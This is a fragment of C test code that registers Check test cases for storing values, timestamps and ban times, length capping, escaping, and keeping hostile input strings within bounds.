    tcase_add_test(tc, store_values);
    tcase_add_test(tc, timestamps_at_the_edges);
    tcase_add_test(tc, ban_times_at_the_extremes);
    tcase_add_test(tc, short_buffer_gives_minus_one);
    tcase_add_test(tc, bad_arguments);
    tcase_add_loop_test(tc, rule_categories, 0, N(cats));
    suite_add_tcase(s, tc);

    tc = tcase_create("hostile");
    tcase_add_loop_test(tc, hostile_strings_stay_inside, 0, N(hostile));
    tcase_add_test(tc, hostile_round_trip);
    tcase_add_loop_test(tc, long_strings_are_capped, 0, 5);
    tcase_add_test(tc, worst_case_fits_line_max);
    suite_add_tcase(s, tc);

    tc = tcase_create("escape");
    tcase_add_loop_test(tc, escape_cases, 0, N(esc_cases));
    tcase_add_test(tc, escape_cuts_whole_pieces);
    suite_add_tcase(s, tc);
    return s;
}
